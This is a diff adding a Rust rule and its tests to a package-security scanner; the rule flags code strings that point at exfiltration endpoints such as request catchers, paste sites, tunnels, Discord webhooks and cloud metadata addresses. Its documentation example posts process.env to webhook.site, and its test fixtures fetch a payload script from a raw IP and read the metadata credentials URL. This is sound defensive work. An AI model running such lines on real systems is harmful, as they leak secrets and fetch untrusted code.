@@ -1,0 +1,140 @@
+//! `suspicious-endpoint`: strings naming places malware talks to.
+
+use crate::declare_rule;
+use crate::detect::endpoints::classify;
+use crate::detect::paths::is_test_or_docs_path;
+use crate::detect::string_excerpt;
+use crate::rule::{FindingExt, Rule, RuleContext, RuleMeta};
+use ferret_core::{Action, FileFacts, Finding, PackageFacts};
+
+/// Findings per file; the first few make the point.
+const MAX_PER_FILE: usize = 8;
+
+declare_rule! {
+    /// ## What it does
+    /// Extracts URLs, `host:port` pairs and hosts from the strings of code files (literal
+    /// or constant-folded: concatenations, base64/hex/char-code decodes, reversed strings)
+    /// and reports those pointing at: raw public IP addresses, paste sites, URL shorteners,
+    /// anonymous file shares, tunnels (ngrok, trycloudflare, serveo, localtunnel),
+    /// request catchers (webhook.site, interactsh/OAST, Burp Collaborator, canarytokens,
+    /// pipedream), messenger webhooks (Discord, Telegram bots, Slack, Feishu) and cloud
+    /// metadata services (169.254.169.254, 100.100.100.200, metadata.google.internal).
+    /// Hosts match by registrable name (`pastebin.*`, `*.ngrok.*`), so rotated TLDs match.
+    ///
+    /// ## Why is this a risk?
+    /// These are the dead drops of supply-chain malware: stolen environment variables go to
+    /// request catchers and Discord/Telegram webhooks, second stages come from paste sites
+    /// and raw IPs, and dependency-confusion probes read cloud metadata credentials.
+    ///
+    /// ## Example
+    /// ```js
+    /// fetch("https://webhook.site/3f2a…", { method: "POST", body: JSON.stringify(process.env) });
+    /// ```
+    ///
+    /// ## False positives
+    /// Warned: request catchers, tunnels, cloud metadata, messenger webhooks that carry
+    /// their token, raw paste URLs and raw-IP URLs. Only recorded: shorteners, file shares,
+    /// paste pages, API prefixes (`https://api.telegram.org/bot`) of bot libraries, and
+    /// anything under `test/`, `docs/` or `examples/`. Comments are never read (mongoose's
+    /// shortener links live in comments and docs).
+    ///
+    /// ## References
+    /// - GuardDog `threat-network-exfiltration`, `shady-links`
+    SuspiciousEndpoint, id = "suspicious-endpoint", category = Malicious, severity = Medium, action = Warn,
+}
+
+impl Rule for SuspiciousEndpoint {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn check_file(&self, file: &FileFacts, _pkg: &PackageFacts, cx: &mut RuleContext) {
+        if !file.is_code() {
+            return;
+        }
+        let non_runtime = is_test_or_docs_path(&file.path);
+        let mut seen: Vec<(String, &'static str)> = Vec::new();
+        for s in &file.strings {
+            if s.len < 4 || !s.value.contains(['.', ':']) {
+                continue;
+            }
+            for e in classify(&s.value) {
+                let key = (e.host.clone(), e.category.as_str());
+                if seen.contains(&key) {
+                    continue;
+                }
+                if seen.len() >= MAX_PER_FILE {
+                    return;
+                }
+                seen.push(key);
+                let category = e.category.as_str().replace('-', " ");
+                let mut finding =
+                    Finding::of(&Self::META, format!("{category} endpoint `{}`", e.text))
+                        .primary(&s.location, &string_excerpt(s), category.clone())
+                        .evidence("url", e.text.clone())
+                        .evidence("host", e.host.clone())
+                        .evidence("category", e.category.as_str())
+                        .install_time(file.install_time);
+                if s.folded {
+                    finding = finding.evidence("folded", true);
+                }
+                if !e.warns() || non_runtime {
+                    finding.action = Action::Monitor;
+                }
+                cx.report(finding);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::tester::Tester;
+    use ferret_core::Action;
+
+    #[test]
+    fn suspicious_endpoint() {
+        let pass = [
+            (
+                "index.js",
+                "// see https://bit.ly/abc and https://webhook.site/x\nmodule.exports = 'https://github.com/a/b';\n",
+            ),
+            (
+                "a.js",
+                "const v = '1.2.3.4'; const local = 'http://127.0.0.1:8080/';\n",
+            ),
+            ("README.md", "post to https://webhook.site/abc"),
+        ];
+        let fail = [
+            (
+                "index.js",
+                "require('https').get('https://webhook.site/0b1c2d3e');\n",
+            ),
+            (
+                "a.js",
+                "fetch('http://198.51.100.7/download/payload.sh');\n",
+            ),
+            (
+                "b.js",
+                "const u = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';\n",
+            ),
+            (
+                "c.js",
+                "const h = 'https://discord.example/api/webhooks/123456789/abcdefghij';\n",
+            ),
+            (
+                "d.js",
+                "const p = 'https://pastebin.invalid/raw/AbCd1234';\n",
+            ),
+            ("e.js", "const t = 'x.ngrok.invalid';\n"),
+        ];
+        let t = Tester::new(super::SuspiciousEndpoint).pass(pass).fail(fail);
+        t.test_and_snapshot();
+        let short = t.findings([("index.js", "module.exports = 'https://bit.ly/3abc';\n")]);
+        assert_eq!(short[0].action, Action::Monitor);
+        let in_test = t.findings([("test/x.js", "fetch('https://webhook.site/abc');\n")]);
+        assert_eq!(in_test[0].action, Action::Monitor);
+        let warn = t.findings([("lib/x.js", "fetch('https://webhook.site/abc');\n")]);
+        assert_eq!(warn[0].action, Action::Warn);
+    }
+}
